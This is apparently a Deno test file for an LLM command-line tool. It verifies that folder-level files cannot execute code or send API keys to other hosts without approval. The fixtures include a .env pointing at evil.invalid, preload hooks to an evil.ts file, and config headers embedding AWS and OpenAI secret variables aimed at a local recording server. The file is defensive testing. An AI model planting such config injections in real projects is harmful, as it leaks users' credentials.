/** Files in the current directory must not be executed or change where keys are sent. */
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { existsSync } from "node:fs";
import { commandEnv, commandLine, flexllm } from "../support/cli.ts";
import { completion, httpAnswer, startRawServer } from "../support/raw_server.ts";
import { temporaryFolder } from "../support/temporary_folder.ts";

Deno.test("files that runtimes read automatically have no effect", async () => {
  using folder = temporaryFolder();
  folder.write(".env", "FLEXLLM_BASE_URL=http://evil.invalid/v1\nFLEXLLM_MODEL=evil\n");
  folder.write("evil.ts", 'await import("node:fs").then((fs) => fs.writeFileSync("ran", ""));\n');
  folder.write("bunfig.toml", 'preload = ["./evil.ts"]\n');
  folder.write("deno.json", '{"imports": {"commander": "./evil.ts"}, "preload": ["./evil.ts"]}\n');
  folder.write("package.json", '{"imports": {"#x": "./evil.ts"}, "type": "commonjs"}\n');
  folder.write("tsconfig.json", '{"compilerOptions": {"paths": {"*": ["./evil.ts"]}}}\n');
  const { code, stdout, stderr } = await flexllm(
    ["ask", "Hello there", "-m", "mock", "--verbose"],
    {
      cwd: folder.path,
    },
  );
  assert.equal(code, 0, stderr);
  assert.match(stdout, /^You asked: "Hello there"/);
  const models = await flexllm(["config", "show", "--json"], { cwd: folder.path });
  assert.ok(!`${models.stdout}${models.stderr}${stderr}`.includes("evil"), models.stdout);
  assert.ok(!existsSync(folder.file("ran")));
});

Deno.test("without HOME, the home directory comes from the system", () => {
  using folder = temporaryFolder();
  const [command, ...first] = commandLine();
  const { status, stdout, stderr } = spawnSync(command, [...first, "config", "path"], {
    cwd: folder.path,
    env: commandEnv(),
    encoding: "utf8",
  });
  // The user who runs the tests may have a configuration.
  assert.match(
    `${status} ${stdout}${stderr}`,
    /^0 .*config\.\w+\n$|^1 [^]*\.flexllm\/config\.yaml/,
  );
  assert.ok(!stderr.includes("unexpected"), stderr);
});

/** A server that records its requests. */
async function server() {
  return await startRawServer((socket) => socket.write(httpAnswer(200, completion("Yes."))));
}

const SECRETS = {
  AWS_SECRET_ACCESS_KEY: "aws-secret-0123456789",
  OPENAI_API_KEY: "sk-0123456789abc",
};

Deno.test("a service's variable is sent to another host only with approval", async () => {
  using folder = temporaryFolder();
  using home = temporaryFolder();
  await using evil = await server();
  const write = (leak: string) =>
    folder.write(
      "flexllm_config.yaml",
      `models:\n  - {id: m, base_url: "${evil.baseUrl}", headers: {x-leak: "${leak}"}}\n`,
    );
  const env = { ...SECRETS, FLEXLLM_HOME: home.path };
  const run = (args: string[], more = {}) =>
    flexllm(args, { cwd: folder.path, env: { ...env, ...more } });
  write("${AWS_SECRET_ACCESS_KEY}");
  const { host } = new URL(evil.baseUrl);

  for (const args of [["ask", "Hi"], ["chat", "Hi"], ["test"], ["models"]]) {
    const { code, stderr } = await run(args);
    assert.equal(code, 1, stderr);
    const output = `${stderr}${(await run(args)).stdout}`;
    assert.match(output, /AWS_SECRET_ACCESS_KEY would be sent to 127\.0\.0\.1/);
    assert.match(output, /flexllm config trust/);
  }
  assert.equal(evil.requests.length, 0);
  const shown = await run(["config", "show"]);
  assert.match(shown.stdout, /headers\.x-leak +\$\{AWS_SECRET_ACCESS_KEY\} \(…6789\)/);
  assert.ok(shown.stdout.includes(`AWS_SECRET_ACCESS_KEY would be sent to ${host}`));
  const checked = await run(["config", "check"]);
  assert.deepEqual([checked.code, /config trust/.test(checked.stderr)], [0, true]);

  assert.equal((await run(["ask", "Hi"], { FLEXLLM_TRUST: "1" })).code, 0);
  assert.equal(evil.requests[0].headers.get("x-leak"), SECRETS.AWS_SECRET_ACCESS_KEY);
  assert.equal((await run(["ask", "Hi"])).code, 1, "FLEXLLM_TRUST stores nothing");

  const trusted = await run(["config", "trust"]);
  assert.deepEqual([trusted.code, /is trusted until it changes/.test(trusted.stdout)], [0, true]);
  assert.equal((await run(["ask", "Hi"])).code, 0);
  write("Bearer ${AWS_SECRET_ACCESS_KEY}");
  assert.equal((await run(["ask", "Hi"])).code, 1, "other content");
  using elsewhere = temporaryFolder();
  elsewhere.write("flexllm_config.yaml", folder.read("flexllm_config.yaml"));
  await run(["config", "trust"]);
  assert.equal((await flexllm(["ask", "Hi"], { cwd: elsewhere.path, env })).code, 1, "other file");
});

Deno.test("base URLs, keys and endpoints are checked as well, if they are used", async () => {
  await using evil = await server();
  const { origin } = new URL(evil.baseUrl);
  const files = [
    `models: [{id: m, base_url: "${evil.baseUrl}", api_key: "\${OPENAI_API_KEY}"}]`,
    `models: [{id: m, base_url: "${origin}/\${OPENAI_API_KEY}/v1"}]`,
    `batch: {endpoints: [{model: m, base_url: "${evil.baseUrl}", api_key: "\${OPENAI_API_KEY}"}]}`,
  ];
  for (const text of files) {
    using folder = temporaryFolder();
    folder.write("flexllm_config.yaml", text);
    const input = folder.write("in.jsonl", '{"q":"Hi"}\n');
    const { code, stderr } = await flexllm(["batch", input, "-o", folder.file("out.jsonl")], {
      cwd: folder.path,
      env: SECRETS,
    });
    assert.match(`${code} ${stderr}`, /^1 error: .*:\d+: OPENAI_API_KEY would be sent to 127/);
  }
  assert.equal(evil.requests.length, 0);
  using folder = temporaryFolder();
  folder.write("flexllm_config.yaml", files[0]);
  const given = ["ask", "Hi", "--api-key", "another-key"];
  assert.equal((await flexllm(given, { cwd: folder.path, env: SECRETS })).code, 0);
  assert.equal(evil.requests[0].headers.get("authorization"), "Bearer another-key");
});

Deno.test("other variables, named files, and hosts from the environment need no approval", async () => {
  await using own = await server();
  const cases: [text: string, args: string[], env: Record<string, string>][] = [
    ["{api_key: '${MY_KEY}'}", [], { MY_KEY: "k" }],
    ["{api_key: '${OPENAI_API_KEY}'}", ["--config", "flexllm_config.yaml"], SECRETS],
    ["{api_key: '${OPENAI_API_KEY}'}", [], { ...SECRETS, FLEXLLM_CONFIG: "flexllm_config.yaml" }],
    [
      "{headers: {x: '${OPENAI_API_KEY}'}}",
      ["-m", "m"],
      { ...SECRETS, OPENAI_BASE_URL: new URL("/other", own.baseUrl).href },
    ],
  ];
  for (const [text, args, env] of cases) {
    using folder = temporaryFolder();
    const entry = text.replace("{", `{id: m, base_url: "${own.baseUrl}", `);
    folder.write("flexllm_config.yaml", `models: [${entry}]\n`);
    const { code, stderr } = await flexllm(["ask", "Hi", ...args], { cwd: folder.path, env });
    assert.equal(code, 0, stderr);
  }
});

Deno.test("FLEXLLM_API_KEY goes to a server that the folder chose only with approval", async () => {
  await using evil = await server();
  using folder = temporaryFolder();
  using home = temporaryFolder();
  // An address of this machine that is not known to be one.
  const baseUrl = evil.baseUrl.replace("127.0.0.1", "0.0.0.0");
  const entry = `id: m, base_url: "${baseUrl}"`;
  const env = { FLEXLLM_API_KEY: "general-key-0123", FLEXLLM_HOME: home.path };
  const run = (args: string[], more = {}) =>
    flexllm(args, { cwd: folder.path, env: { ...env, ...more } });
  for (
    const field of ["", ", api_key: '${FLEXLLM_API_KEY}'", ", headers: {x: '${FLEXLLM_API_KEY}'}"]
  ) {
    folder.write("flexllm_config.yaml", `models: [{${entry}${field}}]\n`);
    for (const args of [["ask", "Hi"], ["test"], ["models"]]) {
      const { code, stdout, stderr } = await run(args);
      assert.equal(code, 1, args.join(" "));
      assert.match(`${stdout}${stderr}`, /:1:\d+: FLEXLLM_API_KEY would be sent to 0\.0\.0\.0/);
    }
  }
  assert.equal(evil.requests.length, 0);

  folder.write("flexllm_config.yaml", `models: [{${entry}}]\n`);
  const chosen = [
    await run(["ask", "Hi"], { FLEXLLM_BASE_URL: baseUrl, FLEXLLM_MODEL: "m" }),
    await run(["ask", "Hi", "--base-url", baseUrl]),
    await run(["ask", "Hi"], { FLEXLLM_TRUST: "1" }),
    await run(["ask", "Hi"], { FLEXLLM_CONFIG: "flexllm_config.yaml" }),
  ];
  assert.deepEqual(chosen.map(({ code }) => code), [0, 0, 0, 0]);
  // A named model does not use the variable.
  assert.equal((await run(["ask", "Hi", "-m", "m"])).code, 0);
  folder.write("flexllm_config.yaml", `models: [{id: m, base_url: "${evil.baseUrl}"}]\n`);
  assert.equal((await run(["ask", "Hi"])).code, 0, "a server on this machine needs no approval");
  const sent = evil.requests.map(({ headers }) => headers.get("authorization"));
  assert.deepEqual(sent, [
    ...Array(4).fill("Bearer general-key-0123"),
    undefined,
    "Bearer general-key-0123",
  ]);
});

Deno.test("saving a template under FLEXLLM_TRUST approves nothing", async () => {
  await using evil = await server();
  using folder = temporaryFolder();
  using home = temporaryFolder();
  folder.write(
    "flexllm_config.yaml",
    `models: [{id: m, base_url: "${evil.baseUrl}", api_key: "\${OPENAI_API_KEY}"}]\n`,
  );
  const run = (args: string[], more = {}) =>
    flexllm(args, { cwd: folder.path, env: { ...SECRETS, FLEXLLM_HOME: home.path, ...more } });
  const saved = await run(["template", "save", "t", "--prompt", "Hi"], { FLEXLLM_TRUST: "1" });
  assert.equal(saved.code, 0, saved.stderr);
  assert.equal((await run(["ask", "Hi"])).code, 1);
  assert.equal(evil.requests.length, 0);
});
